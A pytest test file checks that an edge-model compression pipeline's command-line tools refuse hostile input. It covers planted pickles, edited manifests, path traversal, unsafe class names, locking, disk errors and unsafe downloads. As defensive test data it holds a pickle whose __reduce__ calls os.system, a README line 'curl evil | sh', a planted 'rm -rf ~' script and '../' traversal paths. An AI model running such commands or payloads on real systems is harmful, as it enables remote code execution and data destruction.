"""Hostile inputs, round two (issue 16): each class of defence attacked for real through the CLIs.

code      a pickle planted in a run folder never runs
provenance  a stage reads only the bytes the producing stage recorded; release packs only those
paths     dataset paths stay inside their root (no '..', absolute paths, symlinks out)
names     class names are printable and separator-free, escaped in C; model outputs = class count
lock      one writer per run folder; no run-manifest entry lost
oserror   a full, read-only or forbidden disk is one line, exit 2, no partial file
network   fetch: same-host redirects, an overall deadline, a validated manifest, --force only on its own folders
budgets   target budgets are finite numbers
fifo      a FIFO where a file is read is refused, never waited on"""
from __future__ import annotations

import errno
import fcntl
import http.server
import json
import os
import shutil
import subprocess
import sys
import threading
import time
from pathlib import Path

import numpy as np
import pytest

import _tiny_run
from compress import fetch
from edgecore.errors import UserError
from edgecore.manifest import record_stage
from test_bad_inputs import PY, ROOT, assert_refused, cli

HAVE_GCC = shutil.which("arm-none-eabi-gcc") is not None
DISTILL = ("--student-input-size", "32", "--student-epochs", "1", "--student-batch-size", "16",
           "--student-threads", "1", "--student-baseline", "off")


def _rerecord(run: Path, stage: str, *files: Path) -> None:
    """What an attacker who edits a file and its stage manifest together would leave."""
    record_stage(run, stage, outputs=files)


def _edit_dataset(run: Path, edit) -> None:
    path = run / "data" / "dataset.json"
    doc = json.loads(path.read_text())
    edit(doc)
    path.write_text(json.dumps(doc))
    _rerecord(run, "data", path)


# --- fixtures ----------------------------------------------------------------------------------------------------

@pytest.fixture(scope="module")
def made(tmp_path_factory) -> Path:
    """A tiny run folder with data and teacher files, recorded like the real stages."""
    return _tiny_run.make_run(tmp_path_factory.mktemp("hostile") / "run", per_class={"train": 8, "val": 1, "test": 2})


@pytest.fixture(scope="module")
def student(made, tmp_path_factory) -> Path:
    """The same through the real distill stage."""
    run = tmp_path_factory.mktemp("hostile-student") / "run"
    shutil.copytree(made, run)
    r = cli("compress", "distill", "--run", run, *DISTILL, timeout=600)
    assert r.returncode == 0, r.stderr[-2000:]
    return run


@pytest.fixture(scope="module")
def exported(tmp_path_factory) -> Path:
    """The exporter fixture's run folder with quant files recorded and the rpi4 export made."""
    from _export_fixture import tiny_run

    run = tmp_path_factory.mktemp("hostile-export") / "run"
    shutil.copytree(tiny_run(), run)
    # The fixture run is shared by the whole session: other modules' exports must not leak into these attacks.
    shutil.rmtree(run / "export", ignore_errors=True)
    r = cli("compress", "export", "--run", run, "--target", "rpi4", timeout=600)
    assert r.returncode == 0, r.stderr[-2000:]
    return run


@pytest.fixture
def run_copy(exported, tmp_path) -> Path:
    run = tmp_path / "run"
    shutil.copytree(exported, run, symlinks=True)
    return run


def _release(run: Path, out: Path, *extra):
    return cli("compress.release", "--run", run, "--release-out", out, "--version", "1.0.0",
               "--release-targets", "rpi4", *extra)


# --- code: a planted pickle never runs ------------------------------------------------------------------------------

def _evil_pickle(path: Path, marker: Path) -> None:
    import torch

    class Evil:
        def __reduce__(self):
            return (os.system, (f"touch {marker}",))

    path.write_bytes(b"")
    torch.save({"config": {}, "state_dict": Evil()}, str(path))


def test_code_planted_student_model_is_refused_before_loading(student, tmp_path):
    run = tmp_path / "run"
    shutil.copytree(student, run)
    marker = tmp_path / "pwned"
    _evil_pickle(run / "student" / "student_float.pt", marker)
    r = cli("compress", "quantize", "--run", run, "--quant-calib-images", "8", "--qat-epochs", "1")
    assert_refused(r, "changed after the student stage", run / "quant" / "model_int8.tflite")
    assert "python -m compress distill" in r.stderr and not marker.exists()


def test_code_planted_student_model_with_forged_manifest_never_runs(student, tmp_path):
    """The manifest is no signature: a loader that can run code must not exist (torch.load weights_only)."""
    run = tmp_path / "run"
    shutil.copytree(student, run)
    marker = tmp_path / "pwned"
    _evil_pickle(run / "student" / "student_float.pt", marker)
    _rerecord(run, "student", *sorted((run / "student").glob("*.*")))
    r = cli("compress", "quantize", "--run", run, "--quant-calib-images", "8", "--qat-epochs", "1")
    assert not marker.exists(), "a pickle in the run folder executed code"
    assert r.returncode == 2 and "Traceback" not in r.stderr, r.stderr[-2000:]


def test_code_planted_training_checkpoint_never_runs(student, tmp_path):
    run = tmp_path / "run"
    shutil.copytree(student, run)
    marker = tmp_path / "pwned"
    _evil_pickle(run / "student" / "checkpoint.pt", marker)
    r = cli("compress", "distill", "--run", run, *DISTILL, timeout=600)
    assert not marker.exists(), "a pickle in the run folder executed code"
    assert "Traceback" not in r.stderr, r.stderr[-2000:]


# --- provenance: stale, edited or unrecorded inputs ------------------------------------------------------------------

def test_provenance_tflite_edited_after_quantize_is_not_exported(run_copy):
    f = run_copy / "quant" / "model_int8.tflite"
    f.write_bytes(f.read_bytes()[:-1] + b"\0")
    r = cli("compress", "export", "--run", run_copy, "--target", "edgetpu")
    assert_refused(r, f"{f} changed after the quant stage", run_copy / "export" / "edgetpu")
    assert "python -m compress quantize" in r.stderr


def test_provenance_onnx_replaced_after_quantize_is_not_benchmarked(run_copy):
    f = run_copy / "quant" / "student_int8_qdq.onnx"
    shutil.copy(run_copy / "quant" / "student_float.onnx", f)  # a valid model, not the one quantize wrote
    r = cli("benchmarks.run", "--target", "rpi4", "--run", run_copy, "--limit", "4")
    assert_refused(r, "changed after the quant stage", run_copy / "bench" / "rpi4" / "report.json")


@pytest.mark.skipif(not HAVE_GCC, reason="no ARM toolchain: the firmware build stops before reading the model")
def test_provenance_tflite_edited_after_quantize_is_not_built_into_firmware(run_copy, tmp_path):
    f = run_copy / "quant" / "model_int8.tflite"
    f.write_bytes(f.read_bytes() + b"\0")
    r = cli("export.rp2040.build", "--run", run_copy, "--out", tmp_path / "fw")
    assert_refused(r, "changed after the quant stage", tmp_path / "fw" / "pizza.uf2")


@pytest.mark.skipif(not HAVE_GCC, reason="no ARM toolchain")
def test_provenance_benchmark_rebuilds_a_firmware_edited_after_its_build(run_copy, tmp_path):
    from benchmarks.measure_rp2040 import _built_from

    fw = tmp_path / "fw"
    r = cli("export.rp2040.build", "--run", run_copy, "--out", fw, "--fw-selftest-images", "1", timeout=600)
    assert r.returncode == 0, r.stderr[-2000:]
    model, uf2 = run_copy / "quant" / "model_int8.tflite", fw / "pizza.uf2"
    assert _built_from(run_copy, uf2, model)
    elf = uf2.with_suffix(".elf")
    elf.write_bytes(elf.read_bytes() + b"\0")
    assert not _built_from(run_copy, uf2, model)  # measured sizes would come from an edited ELF
    (run_copy / "firmware" / "manifest.json").write_text('{"inputs": [], "outputs": 3}')
    assert not _built_from(run_copy, uf2, model)  # a damaged record means rebuild, not a traceback


def test_provenance_unrecorded_stage_is_refused(run_copy):
    (run_copy / "quant" / "manifest.json").unlink()
    r = cli("compress", "export", "--run", run_copy, "--target", "jetson-nano")
    assert_refused(r, "no record of what the quant stage wrote", run_copy / "export" / "jetson-nano")


@pytest.mark.parametrize("text", ["[]", "{", '{"outputs": []}', '{"outputs": {"quant/student_float.onnx": "x"}}'])
def test_provenance_malformed_stage_manifest_is_refused(run_copy, text):
    (run_copy / "quant" / "manifest.json").write_text(text)
    r = cli("compress", "export", "--run", run_copy, "--target", "jetson-nano")
    assert_refused(r, "manifest", run_copy / "export" / "jetson-nano")


@pytest.mark.parametrize("text, match", [("[]", "not a JSON object"), ('{"stages": []}', "is malformed"),
                                         ('{"stages": {"x": 1}}', "is malformed"),
                                         ('{"stages": {"q": {"stage": "q", "metrics": []}}}', "is malformed")])
def test_provenance_damaged_run_manifest_stops_commands_before_work(run_copy, tmp_path, text, match):
    (run_copy / "manifest.json").write_text(text)
    r = cli("compress", "export", "--run", run_copy, "--target", "jetson-nano")
    assert_refused(r, match, run_copy / "export" / "jetson-nano")
    assert_refused(_release(run_copy, tmp_path / "dist"), match, tmp_path / "dist")


def test_provenance_release_refuses_an_export_record_naming_files_outside_it(run_copy, tmp_path):
    path = run_copy / "export" / "rpi4" / "manifest.json"
    doc = json.loads(path.read_text())
    doc["outputs"]["quant/model_int8.tflite"] = json.loads((run_copy / "quant" / "manifest.json").read_text())[
        "outputs"]["quant/model_int8.tflite"]
    path.write_text(json.dumps(doc))
    assert_refused(_release(run_copy, tmp_path / "dist"), "outside the export folder", tmp_path / "dist")


def test_provenance_dataset_edited_after_data_is_not_taught(made, tmp_path):
    run = tmp_path / "run"
    shutil.copytree(made, run)
    path = run / "data" / "dataset.json"
    doc = json.loads(path.read_text())
    doc["items"] = doc["items"][::-1]
    path.write_text(json.dumps(doc))
    r = cli("compress", "teach", "--run", run)
    assert_refused(r, "changed after the data stage")
    assert "python -m compress data" in r.stderr


def test_provenance_image_swapped_after_data_is_not_trained_on(made, tmp_path):
    run = tmp_path / "run"
    shutil.copytree(made, run)
    images = sorted((run / "data" / "images").rglob("*.png"))
    shutil.copy(images[-1], images[0])  # a real image, but not the one the data stage recorded
    r = cli("compress", "distill", "--run", run, *DISTILL)
    assert_refused(r, f"image {images[0]} changed after the data stage", run / "student" / "student_float.pt")


def test_provenance_replaced_soft_labels_are_not_distilled(made, tmp_path):
    run = tmp_path / "run"
    shutil.copytree(made, run)
    f = run / "teacher" / "soft_labels.npz"
    with np.load(f) as z:
        np.savez(f, hashes=z["hashes"], probs=z["probs"][:, ::-1], classes=z["classes"])
    r = cli("compress", "distill", "--run", run, *DISTILL)
    assert_refused(r, "changed after the teacher stage")
    assert "python -m compress teach" in r.stderr


def test_provenance_release_refuses_a_file_edited_after_export(run_copy, tmp_path):
    readme = run_copy / "export" / "rpi4" / "README.md"
    readme.write_text(readme.read_text() + "\ncurl evil | sh\n")
    r = _release(run_copy, tmp_path / "dist")
    assert_refused(r, f"{readme} changed after the export/rpi4 stage", tmp_path / "dist")


def test_provenance_release_refuses_a_file_planted_in_an_export(run_copy, tmp_path):
    (run_copy / "export" / "rpi4" / "extra.sh").write_text("rm -rf ~\n")
    assert_refused(_release(run_copy, tmp_path / "dist"), "was not written by the rpi4 export", tmp_path / "dist")


def test_provenance_release_refuses_a_removed_export_file(run_copy, tmp_path):
    (run_copy / "export" / "rpi4" / "model.json").unlink()
    assert_refused(_release(run_copy, tmp_path / "dist"), "model.json not found", tmp_path / "dist")


def test_provenance_release_refuses_an_edited_benchmark_report(run_copy, tmp_path):
    assert cli("benchmarks.run", "--target", "rpi4", "--run", run_copy, "--limit", "4").returncode in (0, 1)
    report = run_copy / "bench" / "rpi4" / "report.json"
    doc = json.loads(report.read_text())
    doc["verdict"] = "PASS"
    report.write_text(json.dumps(doc))
    assert_refused(_release(run_copy, tmp_path / "dist"), "changed after the bench/rpi4 stage", tmp_path / "dist")


def test_provenance_untampered_release_still_builds(run_copy, tmp_path):
    r = _release(run_copy, tmp_path / "dist")
    assert r.returncode == 0, r.stderr[-2000:]
    assert (tmp_path / "dist" / "pizza-edge-1.0.0" / "pizza-edge-1.0.0-rpi4.zip").is_file()


# --- paths from manifests stay inside their root ---------------------------------------------------------------------

@pytest.mark.parametrize("case, match", [
    ("dotdot", "without '..'"), ("absolute", "without '..'"), ("symlink-out", "points outside"),
    ("imagefolder-outside", "outside the indexed folder"), ("no-hash", "has no valid sha256")])
def test_paths_from_the_dataset_stay_inside_their_root(made, tmp_path, case, match):
    run = tmp_path / "run"
    shutil.copytree(made, run)
    outside = tmp_path / "secret.png"
    shutil.copy(next((run / "data" / "images").rglob("*.png")), outside)
    first = json.loads((run / "data" / "dataset.json").read_text())["items"][0]["path"]
    if case == "dotdot":
        _edit_dataset(run, lambda d: d["items"][0].update(path="images/../../../secret.png"))
    elif case == "absolute":
        _edit_dataset(run, lambda d: d["items"][0].update(path=str(outside)))
    elif case == "symlink-out":
        (run / "data" / first).unlink()
        (run / "data" / first).symlink_to(outside)
    elif case == "no-hash":  # an image nobody can check, then swapped
        _edit_dataset(run, lambda d: d["items"][0].pop("sha256"))
        shutil.copy(outside, run / "data" / first)
    else:  # an ImageFolder dataset may name photos by absolute path, but only under the folder it indexed
        _edit_dataset(run, lambda d: (d["source"].update(kind="imagefolder", root=str(run / "data" / "images")),
                                      d["items"][0].update(path=str(outside))))
    assert_refused(cli("compress", "teach", "--run", run), match)


def test_paths_a_symlink_out_of_an_image_folder_is_refused_by_the_data_stage(tmp_path):
    from PIL import Image

    photos, run = tmp_path / "photos", tmp_path / "run"
    for i, c in enumerate(("a", "b")):
        (photos / c).mkdir(parents=True)
        Image.fromarray(np.full((8, 8, 3), 40 * (i + 1), np.uint8)).save(photos / c / "x.png")
    Image.fromarray(np.zeros((8, 8, 3), np.uint8)).save(tmp_path / "private.png")
    (photos / "a" / "link.png").symlink_to(tmp_path / "private.png")
    r = cli("compress", "data", "--run", run, "--data", photos, "--labeled-per-class", "all")
    assert_refused(r, "outside the indexed folder", run / "data" / "dataset.json")


# --- names and shapes -------------------------------------------------------------------------------------------------

@pytest.mark.parametrize("name, match", [("bad\nname", "not allowed"), ("a,b", "not allowed"),
                                         ("tab\there", "not allowed"), (" padded", "not allowed"),
                                         ("x" * 65, "not allowed")])
def test_names_unsafe_class_folders_are_refused_by_the_data_stage(tmp_path, name, match):
    from PIL import Image

    photos, run = tmp_path / "photos", tmp_path / "run"
    for i, c in enumerate(("ok", name)):
        (photos / c).mkdir(parents=True)
        Image.fromarray(np.full((8, 8, 3), 40 * (i + 1), np.uint8)).save(photos / c / "x.png")
    r = cli("compress", "data", "--run", run, "--data", photos, "--labeled-per-class", "all")
    assert_refused(r, match, run / "data" / "dataset.json")


def test_names_unsafe_class_name_in_an_edited_dataset_is_refused(made, tmp_path):
    run = tmp_path / "run"
    shutil.copytree(made, run)
    _edit_dataset(run, lambda d: (d["classes"].__setitem__(0, "basic\nburnt"),
                                  [it.update(label="basic\nburnt") for it in d["items"] if it["label"] == "basic"]))
    assert_refused(cli("compress", "teach", "--run", run), "not allowed")


def test_names_compiler_refuses_a_newline_and_escapes_unicode(exported, tmp_path):
    tflite = exported / "quant" / "model_int8.tflite"
    r = cli("export.rp2040.compile", "--tflite", tflite, "--out", tmp_path / "bad", "--class-names", "a\nb,c,d")
    assert_refused(r, "not allowed", tmp_path / "bad" / "model.c")
    names = ["brûlé", "say \"hi\"??=", "焦げ"]
    r = cli("export.rp2040.compile", "--tflite", tflite, "--out", tmp_path / "gen", "--class-names", ",".join(names))
    assert r.returncode == 0, r.stderr
    # The generated literals, compiled as C11 (trigraphs on) and printed, give back the UTF-8 names.
    model_c = (tmp_path / "gen" / "model.c").read_text()
    assert model_c.isascii()
    table = next(ln for ln in model_c.splitlines() if ln.startswith("const char *const model_class_names"))
    literals = table.split("= {", 1)[1].rsplit("}", 1)[0]
    prog = tmp_path / "names.c"
    prog.write_text(f'#include <stdio.h>\nstatic const char *n[] = {{{literals}}};\n'
                    'int main(void) { for (int i = 0; i < 3; i++) printf("%s\\n", n[i]); return 0; }\n')
    cc = shutil.which("cc") or shutil.which("gcc")
    if cc is None:
        pytest.skip("no host C compiler")
    subprocess.run([cc, "-std=c11", "-Wall", "-Werror", "-o", tmp_path / "names", prog], check=True)
    out = subprocess.run([tmp_path / "names"], capture_output=True, check=True).stdout
    assert out.decode("utf-8").splitlines() == names


@pytest.mark.skipif(not HAVE_GCC or shutil.which("node") is None, reason="needs the ARM toolchain and node")
def test_names_unicode_class_names_survive_firmware_and_protocol(run_copy, tmp_path):
    """Non-ASCII and C-special names through the -Werror firmware build, the flash image and the serial
    protocol's name list in the emulator, back to the host intact."""
    names = {"basic": "brûlé", "burnt": "焦げ", "mixed": 'say "hi"??='}

    def rename(d):
        d["classes"] = [names[c] for c in d["classes"]]
        for it in d["items"]:
            it["label"] = names[it["label"]]

    _edit_dataset(run_copy, rename)
    r = cli("export.rp2040.build", "--run", run_copy, "--out", tmp_path / "fw", "--fw-selftest-images", "1",
            timeout=600)
    assert r.returncode == 0, r.stderr[-2000:]
    image = next((run_copy / "data" / "images" / "burnt").glob("test_*.png"))
    r = cli("export.rp2040.serial_client", "--emulator", tmp_path / "fw" / "pizza.uf2", image, timeout=600)
    assert r.returncode == 0, r.stderr[-2000:]
    printed = r.stdout
    assert all(n in printed for n in names.values()), printed


def test_names_model_outputs_must_equal_the_class_count(run_copy):
    def add_class(d):
        d["classes"].append("extra")
        d["items"][0]["label"] = "extra"

    _edit_dataset(run_copy, add_class)
    r = cli("compress", "export", "--run", run_copy, "--target", "jetson-nano")
    assert_refused(r, "has 3 outputs but the dataset has 4 classes", run_copy / "export" / "jetson-nano")
    r = cli("benchmarks.run", "--target", "rpi4", "--run", run_copy, "--limit", "4")
    assert_refused(r, "has 3 outputs but the dataset has 4 classes")


# --- one writer per run folder -----------------------------------------------------------------------------------------

def test_lock_a_second_command_waits_for_the_first(run_copy):
    lock = os.open(run_copy / ".lock", os.O_RDWR | os.O_CREAT)
    fcntl.flock(lock, fcntl.LOCK_EX)
    os.pwrite(lock, b"pid 1: a test holding the run folder\n", 0)
    env = {k: v for k, v in os.environ.items() if k != "PIZZA_EDGE_RUN_LOCKS"}
    proc = subprocess.Popen([PY, "-m", "compress", "export", "--run", str(run_copy), "--target", "jetson-nano"],
                            cwd=ROOT, env=env, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True)
    lines: list[str] = []
    reader = threading.Thread(target=lambda: lines.extend(proc.stderr), daemon=True)
    reader.start()
    waiting = f"run folder {run_copy} is in use (held by pid 1: a test holding the run folder); waiting"
    try:
        # The command says it waits just before it blocks on the lock; it must then stay blocked.
        deadline = time.monotonic() + 120
        while not any(waiting in ln for ln in lines):
            assert proc.poll() is None, "".join(lines)[-2000:]
            assert time.monotonic() < deadline, "no 'in use ... waiting' line within 120 s"
            time.sleep(0.1)
        time.sleep(1)
        assert proc.poll() is None, "".join(lines)[-2000:]
        assert not (run_copy / "export" / "jetson-nano").exists()
    finally:
        os.close(lock)
    proc.wait(timeout=300)
    reader.join(timeout=60)
    err = "".join(lines)
    assert proc.returncode == 0, err[-2000:]
    assert "export/jetson-nano" in json.loads((run_copy / "manifest.json").read_text())["stages"]


def test_lock_two_concurrent_exports_both_land_in_the_run_manifest(run_copy):
    procs = [subprocess.Popen([PY, "-m", "compress", "export", "--run", str(run_copy), "--target", t],
                              cwd=ROOT, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
             for t in ("jetson-nano", "openvino")]
    errs = [p.communicate(timeout=600)[1] for p in procs]
    assert [p.returncode for p in procs] == [0, 0], errs
    assert sum("is in use" in e for e in errs) <= 1  # at most one had to wait (the other may have finished)
    stages = json.loads((run_copy / "manifest.json").read_text())["stages"]
    assert {"export/jetson-nano", "export/openvino", "export/rpi4", "quant", "data"} <= set(stages)


def test_lock_concurrent_manifest_updates_lose_nothing(tmp_path):
    """Stages that finish together (API callers hold no run lock) must not drop each other's entry."""
    code = ("import sys\nfrom edgecore.manifest import record_stage\n"
            "for j in range(8):\n    record_stage(sys.argv[1], f'w{sys.argv[2]}_{j}')\n")
    procs = [subprocess.Popen([PY, "-c", code, str(tmp_path), str(i)], cwd=ROOT) for i in range(6)]
    assert [p.wait(timeout=300) for p in procs] == [0] * 6
    stages = json.loads((tmp_path / "manifest.json").read_text())["stages"]
    assert len(stages) == 48


# --- the disk: ENOSPC, EROFS, EACCES -------------------------------------------------------------------------------------

INJECT = '''import errno, os, tempfile
_code = getattr(errno, os.environ["PIZZA_EDGE_TEST_OSERROR"])
def _fail(*a, dir=None, **kw):
    raise OSError(_code, os.strerror(_code), str(dir))
tempfile.mkstemp = tempfile.mkdtemp = _fail
'''


def _with_disk_error(tmp_path: Path, code: str, *args, timeout=300):
    """Run a CLI whose every new file or folder (all writes are atomic: temp first) fails with errno `code`."""
    inject = tmp_path / "inject"
    inject.mkdir(exist_ok=True)
    (inject / "sitecustomize.py").write_text(INJECT)
    env = dict(os.environ, PYTHONPATH=str(inject), PIZZA_EDGE_TEST_OSERROR=code)
    return subprocess.run([PY, "-m", *map(str, args)], cwd=ROOT, capture_output=True, text=True, env=env,
                          timeout=timeout)


def _no_temp_left(folder: Path) -> None:
    assert not [p for p in folder.rglob(".*") if p.name.endswith((".tmp", ".part"))], list(folder.rglob(".*"))


@pytest.mark.parametrize("code", ["ENOSPC", "EROFS", "EACCES"])
def test_oserror_every_errno_is_one_line(tmp_path, code):
    (tmp_path / "fw.bin").write_bytes(b"\1" * 600)
    r = _with_disk_error(tmp_path, code, "export.rp2040.uf2", "write", tmp_path / "fw.bin", tmp_path / "fw.uf2")
    assert_refused(r, os.strerror(getattr(errno, code)), tmp_path / "fw.uf2")


@pytest.mark.parametrize("command", ["data", "export", "bench", "release", "fetch", "compile", "build"])
def test_oserror_in_every_cli(run_copy, tmp_path, command):
    if command == "build" and not HAVE_GCC:
        pytest.skip("no ARM toolchain")
    tflite = run_copy / "quant" / "model_int8.tflite"
    out = tmp_path / "out"
    args, gone = {
        "data": (("compress", "data", "--run", out, "--data-train", "1", "--data-val", "0", "--data-test", "0",
                  "--data-size", "16"), out / "data" / "dataset.json"),
        "export": (("compress", "export", "--run", run_copy, "--target", "jetson-nano"),
                   run_copy / "export" / "jetson-nano"),
        "bench": (("benchmarks.run", "--target", "rpi4", "--run", run_copy, "--limit", "4"),
                  run_copy / "bench" / "rpi4" / "report.json"),
        "release": (("compress.release", "--run", run_copy, "--release-out", out, "--version", "1.0.0",
                     "--release-targets", "rpi4"), out / "pizza-edge-1.0.0"),
        "fetch": (("compress.fetch", "--from", tmp_path / "nowhere", "--list"), out),
        "compile": (("export.rp2040.compile", "--tflite", tflite, "--out", out), out / "model.c"),
        "build": (("export.rp2040.build", "--run", run_copy, "--out", out), out / "pizza.uf2"),
    }[command]
    code = {"data": "ENOSPC", "export": "EROFS", "bench": "EACCES", "release": "ENOSPC", "fetch": "EROFS",
            "compile": "EACCES", "build": "ENOSPC"}[command]
    if command == "fetch":  # the download itself fails to find room beside the destination
        built = _release(run_copy, tmp_path / "dist")
        assert built.returncode == 0, built.stderr
        args = ("compress.fetch", "--from", tmp_path / "dist" / "pizza-edge-1.0.0", "--target", "rpi4",
                "--dest", out / "rpi4")
        gone = out / "rpi4"
    r = _with_disk_error(tmp_path, code, *args)
    assert_refused(r, os.strerror(getattr(errno, code)), gone)
    _no_temp_left(run_copy)


def _tmpfs(mnt: Path, size: str):
    """A tmpfs of `size` at `mnt` (needs root and mount rights; the test is skipped elsewhere)."""
    mnt.mkdir()
    if subprocess.run(["mount", "-t", "tmpfs", "-o", f"size={size}", "tmpfs", str(mnt)],
                      capture_output=True).returncode != 0:
        pytest.skip("cannot mount a tmpfs here")
    yield mnt
    subprocess.run(["umount", str(mnt)], check=True)


@pytest.fixture
def full_disk(tmp_path):
    """256 KB: a real ENOSPC."""
    yield from _tmpfs(tmp_path / "small", "256k")


@pytest.fixture
def mount(tmp_path):
    yield from _tmpfs(tmp_path / "mnt", "64m")


def _fill(disk: Path) -> None:
    with open(disk / "ballast", "wb", buffering=0) as f:
        try:
            while True:
                f.write(b"\0" * 4096)
        except OSError:
            pass


def test_oserror_a_really_full_disk_in_the_data_stage(full_disk):
    r = cli("compress", "data", "--run", full_disk / "run", "--data-train", "40", "--data-val", "0",
            "--data-test", "0", "--data-size", "128", "--data-workers", "1")
    assert_refused(r, "No space left on device", full_disk / "run" / "data" / "dataset.json")
    assert not (full_disk / "run" / "data" / "images").exists()
    _no_temp_left(full_disk)


def test_oserror_a_really_full_disk_in_release_and_fetch(run_copy, full_disk, tmp_path):
    assert _release(run_copy, tmp_path / "dist").returncode == 0
    _fill(full_disk)
    r = _release(run_copy, full_disk / "dist")
    assert_refused(r, "No space left on device", full_disk / "dist" / "pizza-edge-1.0.0")
    r = cli("compress.fetch", "--from", tmp_path / "dist" / "pizza-edge-1.0.0", "--target", "rpi4",
            "--dest", full_disk / "rpi4")
    assert_refused(r, "No space left on device", full_disk / "rpi4")
    _no_temp_left(full_disk)


def test_oserror_a_read_only_run_folder_still_releases(run_copy, mount, tmp_path):
    """Reading needs no lock where nobody can write; writing there is one line."""
    shutil.copytree(run_copy, mount / "run", symlinks=True)
    subprocess.run(["mount", "-o", "remount,ro", str(mount)], check=True)
    r = _release(mount / "run", tmp_path / "dist")
    assert r.returncode == 0, r.stderr[-2000:]
    r = cli("compress", "export", "--run", mount / "run", "--target", "jetson-nano")
    assert_refused(r, "is not writable", mount / "run" / "export" / "jetson-nano")


# --- the network ---------------------------------------------------------------------------------------------------------

class Server:
    """127.0.0.1 HTTP server over a folder: `redirect` sends a path elsewhere, `slow` trickles a file."""

    def __init__(self, folder: Path):
        self.redirect: dict[str, str] = {}
        self.slow: set[str] = set()
        server = self

        class Handler(http.server.SimpleHTTPRequestHandler):
            def __init__(self, *a, **kw):
                super().__init__(*a, directory=str(folder), **kw)

            def do_GET(self):
                if self.path in server.redirect:
                    self.send_response(302)
                    self.send_header("Location", server.redirect[self.path])
                    self.send_header("Content-Length", "0")
                    self.end_headers()
                    return
                if self.path in server.slow:
                    body = (folder / self.path.lstrip("/")).read_bytes()
                    self.send_response(200)
                    self.send_header("Content-Length", str(len(body)))
                    self.end_headers()
                    try:
                        for i in range(0, len(body), 64):  # 64 bytes every 0.2 s: never idle for a --timeout
                            self.wfile.write(body[i:i + 64])
                            self.wfile.flush()
                            time.sleep(0.2)
                    except (BrokenPipeError, ConnectionResetError):
                        pass
                    return
                super().do_GET()

            def log_message(self, *a):
                pass

        self.httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.httpd.block_on_close = False  # a trickling reply must not hold up the test's teardown
        self.port = self.httpd.server_address[1]
        self.url = f"http://127.0.0.1:{self.port}"
        threading.Thread(target=self.httpd.serve_forever, args=(0.05,), daemon=True).start()

    def close(self):
        self.httpd.shutdown()
        self.httpd.server_close()


@pytest.fixture(scope="module")
def released(exported, tmp_path_factory) -> Path:
    """A release of the exported run, built once; tests serve it as it is or edit a copy of it."""
    dist = tmp_path_factory.mktemp("served")
    r = _release(exported, dist)
    assert r.returncode == 0, r.stderr
    return dist / "pizza-edge-1.0.0"


@pytest.fixture
def served(released):
    server = Server(released)  # redirects and trickled paths are the server's own, one server per test
    yield server, released
    server.close()


def _fetch(*args):
    return cli("compress.fetch", *args, timeout=120)


def test_network_cross_host_redirect_is_refused_unless_allowed(served, tmp_path):
    server, _ = served
    server.redirect["/v1/manifest.json"] = f"http://localhost:{server.port}/manifest.json"
    server.redirect["/v1/pizza-edge-1.0.0-rpi4.zip"] = f"http://localhost:{server.port}/pizza-edge-1.0.0-rpi4.zip"
    dest = tmp_path / "get" / "rpi4"
    r = _fetch("--from", server.url + "/v1", "--target", "rpi4", "--dest", dest)
    assert_refused(r, "redirects to another host, localhost", dest)
    assert "--allow-redirect localhost" in r.stderr
    r = _fetch("--from", server.url + "/v1", "--target", "rpi4", "--dest", dest, "--allow-redirect", "localhost")
    assert r.returncode == 0, r.stderr
    assert (dest / "model.json").is_file()


def test_network_same_host_redirect_is_followed(served, tmp_path):
    server, _ = served
    server.redirect["/v2/manifest.json"] = "/manifest.json"
    server.redirect["/v2/pizza-edge-1.0.0-rpi4.zip"] = f"{server.url}/pizza-edge-1.0.0-rpi4.zip"
    r = _fetch("--from", server.url + "/v2", "--target", "rpi4", "--dest", tmp_path / "d")
    assert r.returncode == 0, r.stderr


def test_network_a_trickling_server_meets_the_deadline(served, tmp_path):
    server, _ = served
    server.slow.add("/pizza-edge-1.0.0-rpi4.zip")
    dest = tmp_path / "get" / "rpi4"
    dest.parent.mkdir()
    t0 = time.monotonic()
    r = _fetch("--from", server.url, "--target", "rpi4", "--dest", dest, "--deadline", "2", "--timeout", "1")
    assert_refused(r, "took longer than --deadline 2 s", dest)
    assert time.monotonic() - t0 < 30 and list(dest.parent.iterdir()) == []


def test_network_force_replaces_only_a_folder_fetch_made(served, tmp_path):
    server, _ = served
    mine = tmp_path / "photos"
    mine.mkdir()
    (mine / "holiday.jpg").write_bytes(b"precious")
    r = _fetch("--from", server.url, "--target", "rpi4", "--dest", mine, "--force")
    assert_refused(r, "was not made by compress.fetch")
    assert (mine / "holiday.jpg").read_bytes() == b"precious"
    got = tmp_path / "got"
    assert _fetch("--from", server.url, "--target", "rpi4", "--dest", got).returncode == 0
    assert json.loads((got / fetch.MARKER).read_text())["target"] == "rpi4"
    assert _fetch("--from", server.url, "--target", "rpi4", "--dest", got, "--force").returncode == 0


def _bad_manifests():
    def set_(path, value):
        def edit(m):
            d = m
            for k in path[:-1]:
                d = d[k]
            d[path[-1]] = value
        return edit

    def rename_target(m):
        m["targets"]["../../evil"] = m["targets"].pop("rpi4")

    return [
        ("name-traversal", set_(["name"], "../../x"), "release name"),
        ("version-slash", set_(["version"], "1/../../2"), "release version"),
        ("version-number", set_(["version"], 1), "release version"),
        ("target-traversal", rename_target, "the entry for target '../../evil'"),
        ("target-not-a-table", set_(["targets", "rpi4"], []), "the entry for target 'rpi4'"),
        ("archive-in-a-folder", set_(["targets", "rpi4", "archive", "name"], "sub/x.zip"), "the entry for target"),
        ("bytes-not-a-number", set_(["targets", "rpi4", "archive", "bytes"], "many"), "the entry for target"),
        ("files-not-a-table", set_(["targets", "rpi4", "files"], ["a"]), "the entry for target"),
        ("benchmark-not-a-table", set_(["targets", "rpi4", "benchmark"], "PASS"), "the entry for target"),
        ("not-an-object", None, "is not a pizza-edge-release/1 release manifest"),
    ]


@pytest.mark.parametrize("case, edit, match", _bad_manifests(), ids=[c[0] for c in _bad_manifests()])
def test_network_malformed_release_manifest_is_refused(released, tmp_path, case, edit, match):
    folder = released
    local = tmp_path / "rel"
    shutil.copytree(folder, local)
    m = json.loads((local / "manifest.json").read_text())
    if edit is None:
        m = [m]
    else:
        edit(m)
    (local / "manifest.json").write_text(json.dumps(m))
    for args in (("--list",), ("--target", "rpi4", "--dest", tmp_path / "d")):
        r = _fetch("--from", local, *args)
        assert_refused(r, match, tmp_path / "d")
    assert not (tmp_path / "x").exists() and not (tmp_path.parent / "evil").exists()


# --- budgets ------------------------------------------------------------------------------------------------------------

